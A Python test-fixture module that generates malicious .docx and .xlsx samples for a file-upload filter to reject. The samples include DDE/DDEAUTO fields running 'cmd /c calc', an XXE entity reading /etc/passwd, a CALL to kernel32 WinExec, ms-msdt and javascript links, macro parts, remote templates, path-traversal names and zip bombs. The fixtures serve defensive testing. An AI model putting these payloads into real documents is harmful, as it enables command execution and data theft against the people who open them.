"""Word and Excel files that must not come in: what starts programs, fetches, hides or bursts."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.files.office_writing import (
    DOCX_TYPE,
    MS,
    XLSX_TYPE,
    Parts,
    R,
    document,
    docx,
    docx_parts,
    field,
    paragraph,
    relations,
    sheet,
    types,
    workbook,
    xlsx,
    xlsx_parts,
    zipped,
)

RELS, WORD = "word/_rels/document.xml.rels", "word/document.xml"
BOOK_RELS, BOOK, SHEET = "xl/_rels/workbook.xml.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml"
_SHEET1 = (f"{R}/worksheet", "worksheets/sheet1.xml")
ENTITY = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;&x;&x;&x;&x;">]>'
PLAIN = '<?xml version="1.0"?>'


def _external(kind: str, target: str) -> Parts:
    return {RELS: relations((f"{R}/{kind}", target, "External"))}


def _word(*inner: str) -> Parts:
    return {WORD: document(*(paragraph(one) for one in inner))}


def _settings(target: str) -> Parts:
    return {
        RELS: relations((f"{R}/settings", "settings.xml")),
        "word/settings.xml": f"{PLAIN}<w:settings xmlns:w='urn:w'/>",
        "word/_rels/settings.xml.rels": relations((f"{R}/attachedTemplate", target, "External")),
    }


def _typed(declared: str, extra: str = "") -> Parts:
    return {
        "[Content_Types].xml": types(DOCX_TYPE, "/word/document.xml", extra).replace(
            DOCX_TYPE, declared
        )
    }


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOCUMENTS: dict[str, Parts] = {
    "template of a page": _settings("http://example.vn/a.dotm"),
    "template of a share": _settings("file:///\\\\host\\share\\a.dotm"),
    "template of this machine": _settings("file:///C:\\a.dotm"),
    "picture of a page": _external("image", "http://example.vn/a.png"),
    "picture of a share": _external("image", "\\\\host\\a.png"),
    "object of a page": _external("oleObject", "http://example.vn/a.html!"),
    "frame": _external("frame", "http://example.vn/a.html"),
    "document of a page": _external("subDocument", "http://example.vn/a.docx"),
    "text of a page": _external("aFChunk", "http://example.vn/a.html"),
    "letters from a table": _external("mailMergeSource", "file:///C:\\a.xlsx"),
    "sound of a page": _external("audio", "http://example.vn/a.wav"),
    "header of a page": _external("header", "http://example.vn/a.xml"),
    "unknown relation": {RELS: relations((f"{R}/frobnicate", "a.xml"))},
    "relation of a stranger": {
        RELS: relations(("http://example.vn/relationships/styles", "a.xml"))
    },
    "address that is called inside": {RELS: relations((f"{R}/image", "http://example.vn/a.png"))},
    "link to a script": _external("hyperlink", "javascript:alert(1)"),
    "link with a blank in it": _external("hyperlink", "java&#9;script:alert(1)"),
    "link to old script": _external("hyperlink", "vbscript:a"),
    "link to data": _external("hyperlink", "data:text/html,a"),
    "link to a handler": _external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to search": _external("hyperlink", "search-ms:query=a&amp;crumb=location:\\\\host"),
    "link to a share": _external("hyperlink", "\\\\host\\share\\a.docx"),
    "link to a share as file": _external("hyperlink", "file://host/share/a.docx"),
    "link to a program": _external("hyperlink", "file:///C:\\Windows\\System32\\calc.exe"),
    "link to a program beside": _external("hyperlink", "setup.exe"),
    "link to a shortcut beside": _external("hyperlink", "thu%20muc/a.lnk"),
    "embedded package": {
        RELS: relations((f"{R}/package", "embeddings/a.xlsx")),
        "word/embeddings/a.xlsx": xlsx(),
    },
    "embedded program": {"word/embeddings/oleObject1.bin": b"MZ"},
    "embedded program by relation": {RELS: relations((f"{R}/oleObject", "media/image1.png"))},
    "embedded program by element": _word(
        '<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>'
    ),
    "embedded page": {
        RELS: relations((f"{R}/aFChunk", "afchunk.html")),
        "word/afchunk.html": "<p/>",
    },
    "embedded page by element": _word('<w:altChunk r:id="rId1"/>'),
    "control": {"word/activeX/activeX1.xml": "<a/>", "word/activeX/activeX1.bin": b"x"},
    "control by relation": {RELS: relations((f"{R}/control", "a.xml")), "word/a.xml": "<a/>"},
    "own buttons": {"customUI/customUI.xml": "<a/>"},
    "own keys": {"word/customizations.xml": "<a/>"},
    "task pane": {"word/webextensions/taskpanes.xml": "<a/>"},
    "macros": {"word/vbaProject.bin": b"x"},
    "macros in capitals": {"word/VBAPROJECT.BIN": b"x"},
    "macros under another name": {RELS: relations((f"{MS}/vbaProject", "media/image1.png"))},
    "macros by type": _typed(MACRO_TYPE),
    "macros by type with a reference": _typed(MACRO_TYPE.replace("macro", "&#109;acro")),
    "macros by type and entity": {
        "[Content_Types].xml": "<!DOCTYPE a [<!ENTITY m 'macro'>]>"
        + types(MACRO_TYPE.replace("macro", "&m;"), "/word/document.xml").partition("?>")[2]
    },
    "macros by a second type": _typed(
        DOCX_TYPE,
        '<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>',
    ),
    "template": _typed(DOCX_TYPE.replace("document.main", "template.main")),
    "unknown type": _typed(
        DOCX_TYPE, '<Override PartName="/word/a.xml" ContentType="application/x-msdownload"/>'
    ),
    "entity in the text": {WORD: ENTITY + "<a>&x;</a>"},
    "entities in entities": {WORD: LAUGHS + "<a>&y;</a>"},
    "entity in other letters": {WORD: (ENTITY + "<a/>").encode("utf-16")},
    "entity in relations": {RELS: ENTITY + relations().partition("?>")[2]},
    "entity in the title": {"docProps/core.xml": ENTITY + "<a/>"},
    "entity in data": {"customXml/item1.xml": ENTITY + "<a/>"},
    "type from elsewhere": {WORD: '<!DOCTYPE a SYSTEM "http://example.vn/a.dtd"><a/>'},
    "unfinished text": {WORD: document()[:-20]},
    "text in UTF-7": {WORD: '<?xml version="1.0" encoding="UTF-7"?>+ADw-a/+AD4-'},
    "DDE": _word(field("DDE cmd &quot;/c calc&quot;")),
    "DDE that starts itself": _word(
        field("DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe &quot;/k calc&quot;")
    ),
    "DDE in pieces": _word(field("D", "D", "E", "AUTO cmd")),
    "DDE in small letters": _word(field(" ddeauto cmd ")),
    "DDE in short": _word('<w:fldSimple w:instr=" DDEAUTO cmd "><w:r/></w:fldSimple>'),
    "DDE deleted": _word(field("DDE cmd", tag="delInstrText")),
    "DDE by numbers": _word(field(field("QUOTE 68 68 69"), " cmd")),
    "DDE in a field": _word(field("IF 1 = 1 ", field("DDE cmd"), " 2")),
    "DDE without an end": _word(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE a</w:instrText></w:r>'
    ),
    "DDE in a header": {"word/header1.xml": document(paragraph(field("DDEAUTO cmd")))},
    "linked file": _word(field("LINK Excel.Sheet.12 \\\\\\\\host\\\\a.xlsx")),
    "text of a file": _word(field("INCLUDETEXT http://example.vn/a")),
    "picture of a field": _word(field('INCLUDEPICTURE "http://example.vn/a.png" \\d')),
    "data of a file": _word(field("DATABASE \\d a.mdb")),
    "imported picture": _word(field("IMPORT \\\\\\\\host\\\\a.png")),
    "button for macros": _word(field("MACROBUTTON AutoOpen mở")),
    "commands for printers": _word(field("PRINT 27")),
    "link field to a share": _word(field('HYPERLINK "\\\\\\\\host\\\\share"')),
    "link field to a script": _word(field('HYPERLINK "javascript:a" \\o "tin"')),
    "link field behind a tip": _word(field('HYPERLINK \\o "tin" "file://host/a.exe"')),
    "old drawing from a page": _word(
        '<w:pict><v:shape><v:imagedata src="http://example.vn/a.png"/></v:shape></w:pict>'
    ),
    "page called a picture": {"word/media/image1.png": "<html><script>alert(1)</script></html>"},
    "program called a picture": {"word/media/image1.jpeg": b"MZ" + bytes(90)},
    "script in a drawing": {
        "word/media/image1.svg": "<svg xmlns='http://www.w3.org/2000/svg'><script>a</script></svg>"
    },
    "program among the parts": {"word/setup.exe": b"MZ"},
    "page among the parts": {"index.html": "<p/>"},
    "shortcut among the pictures": {"word/media/a.lnk": b"L"},
    "name that climbs": {"word/../../../a.xml": "<a/>"},
    "name that climbs backwards": {"word\\..\\..\\a.xml": "<a/>"},
    "name from the root": {"/etc/a.xml": "<a/>"},
    "name of a disk": {"C:/a.xml": "<a/>"},
}

_MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
TABLES: dict[str, Parts] = {
    "macros": {"xl/vbaProject.bin": b"x"},
    "sheet of macros": {"xl/macrosheets/sheet1.xml": "<a/>"},
    "sheet of macros by relation": {
        BOOK_RELS: relations(_SHEET1, (f"{MS}/xlMacrosheet", "worksheets/sheet2.xml"))
    },
    "foreign sheet of macros": {BOOK_RELS: relations(_SHEET1, (f"{MS}/xlIntlMacrosheet", "a.xml"))},
    "sheet of macros by type": {
        "[Content_Types].xml": types(
            XLSX_TYPE,
            "/xl/workbook.xml",
            f'<Override PartName="/{SHEET}" ContentType="{_MACRO_SHEET}"/>',
        )
    },
    "sheet of dialogues": {BOOK_RELS: relations(_SHEET1, (f"{R}/dialogsheet", "a.xml"))},
    "name that starts itself": {
        BOOK: workbook(
            '<definedNames><definedName name="_xlnm.Auto_Open">A1</definedName></definedNames>'
        )
    },
    "name that starts itself, hidden": {
        BOOK: workbook(
            '<definedNames><definedName name="auto_open12" hidden="1">A1</definedName></definedNames>'
        )
    },
    "another table": {"xl/externalLinks/externalLink1.xml": "<a/>"},
    "another table by relation": {
        BOOK_RELS: relations(_SHEET1, (f"{R}/externalLink", "a.xml")),
        "xl/a.xml": "<a/>",
    },
    "DDE by element": {"xl/drawings/drawing1.xml": "<ddeLink ddeService='cmd'/>"},
    "DDE": {SHEET: sheet("cmd|'/c calc'!A0")},
    "DDE in a sum": {SHEET: sheet("1+MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''")},
    "DDE in a name": {
        BOOK: workbook(
            "<definedNames><definedName name='a'>cmd|' /c calc'!A1</definedName></definedNames>"
        )
    },
    "DDE in a rule": {
        SHEET: sheet().replace(
            "</sheetData>",
            "</sheetData><conditionalFormatting><formula>cmd|'/c a'!A0</formula></conditionalFormatting>",
        )
    },
    "asks a page": {SHEET: sheet('_xlfn.WEBSERVICE("http://example.vn/"&amp;A2)')},
    "asks for a picture": {SHEET: sheet('_xlfn.IMAGE("http://example.vn/a")')},
    "asks a program": {SHEET: sheet('RTD("a",,"b")')},
    "calls a library": {SHEET: sheet('CALL("kernel32","WinExec","JCJ","calc",0)')},
    "registers a library": {SHEET: sheet('REGISTER.ID("a","b")')},
    "runs a program": {SHEET: sheet('exec ("calc")')},
    "reads from a share": {SHEET: sheet("'\\\\host\\share\\[a.xlsx]Sheet1'!A1")},
    "link to a share": {SHEET: sheet('HYPERLINK("\\\\host\\share","xem")')},
    "link to a program": {SHEET: sheet('HYPERLINK("file:///C:/a.exe")')},
    "link of a cell to a script": {
        "xl/worksheets/_rels/sheet1.xml.rels": relations(
            (f"{R}/hyperlink", "javascript:a", "External")
        )
    },
    "connections": {"xl/connections.xml": "<a/>"},
    "table of a query": {"xl/queryTables/queryTable1.xml": "<a/>"},
    "data model": {"xl/model/item.data": b"x"},
    "query in the data": {
        "customXml/item1.xml": "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>a</DataMashup>"
    },
    "live data": {
        BOOK_RELS: relations(_SHEET1, (f"{R}/volatileDependencies", "volatileDependencies.xml"))
    },
    "embedded document": {"xl/embeddings/a.docx": docx()},
    "embedded program": {
        SHEET: sheet().replace(
            "</worksheet>", "<oleObjects><oleObject progId='Package'/></oleObjects></worksheet>"
        )
    },
    "control": {"xl/activeX/activeX1.bin": b"x"},
    "entity": {SHEET: ENTITY + "<a/>"},
    "script in a drawing": {"xl/drawings/vmlDrawing1.vml": "<xml><br><script>a</script></xml>"},
    "table in a table in a table": {"xl/embeddings/a.xlsx": xlsx({"xl/embeddings/b.xlsx": xlsx()})},
    "macros in the table of a chart": {"xl/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"x"})},
}


def _flagged(content: bytes) -> bytes:
    """Marked as locked with a password, in both of the archive's lists."""
    head = content[:6] + struct.pack("<H", 1) + content[8:]
    place = head.index(b"PK\x01\x02")
    return head[: place + 8] + struct.pack("<H", 1) + head[place + 10 :]


def _twice() -> bytes:
    """Two parts of one name; programs differ in which they read."""
    content = zipped({**docx_parts(), "word/documenu.xml": ENTITY + "<a/>"})
    return content.replace(b"word/documenu.xml", b"word/document.xml")


def _lying() -> bytes:
    """Claims to unpack to less than it does."""
    content = docx({"word/styles.xml": "<a>" + " " * 200_000 + "</a>"})
    real = struct.pack("<L", 200_007)
    return content.replace(real, struct.pack("<L", 900))


def hostile_archives() -> Iterator[tuple[str, bytes]]:
    """The same formats, hostile as archives."""
    blank = b"<a>" + bytes(b" " * (32 * 1024 * 1024)) + b"</a>"
    whole = docx()
    yield "unpacks to 32 MB", docx({"word/styles.xml": blank})
    many = {f"customXml/item{number}.xml": blank[: 3 * 1024 * 1024] for number in range(8)}
    yield "unpacks to 24 MB in pieces", docx(many)
    yield (
        "bursts in the table of a chart",
        docx({"word/embeddings/a.xlsx": xlsx({"xl/styles.xml": blank[:8_000_000]})}),
    )
    yield (
        "6000 parts",
        zipped({**docx_parts(), **{f"customXml/i{n}.xml": "" for n in range(6000)}}, method=0),
    )
    yield "locked parts", _flagged(whole)
    yield "two parts of one name", _twice()
    yield "lies about its size", _lying()
    yield "packed in another way", zipped(docx_parts(), method=zipfile.ZIP_LZMA)
    yield "something before it", b"MZ" + whole
    yield "something behind it", whole + b"<script>alert(1)</script>"
    yield "cut off", whole[: len(whole) // 2]
    yield "cut off at the end", whole[:-10]
    yield "one bit turned", whole.replace(b"PK\x03\x04", b"PK\x03\x05", 2)
    yield "a program called so", b"MZ" + bytes(200)
    yield "an old document", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield (
        "locked with a password",
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le")),
    )
    yield "a table called so", xlsx()
    yield "an archive called so", zipped({"readme.txt": "x"})
    yield "a huge picture", docx({"word/media/image1.png": huge_png(100_000, 100_000)})


def huge_png(width: int, height: int, packed: bytes = b"") -> bytes:
    """Says that it is large; holds next to nothing."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack("!L", len(content))
            + name
            + content
            + struct.pack("!L", zlib.crc32(name + content))
        )

    head = struct.pack("!LLBBBBB", width, height, 1, 0, 0, 0, 0)
    data = packed or zlib.compress(bytes(1000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def hostile_office() -> Iterator[tuple[str, str, bytes]]:
    """Title, ending and content of each."""
    for title, changes in DOCUMENTS.items():
        yield title, "docx", docx(changes)
    for title, changes in TABLES.items():
        yield title, "xlsx", xlsx(changes)
    for title, content in hostile_archives():
        yield title, "docx", content
    yield "a document called so", "xlsx", docx()
    yield (
        "a table of 4 kB that grows",
        "xlsx",
        zipped({**xlsx_parts(), SHEET: io.BytesIO(bytes(9_000_000)).getvalue()}),
    )
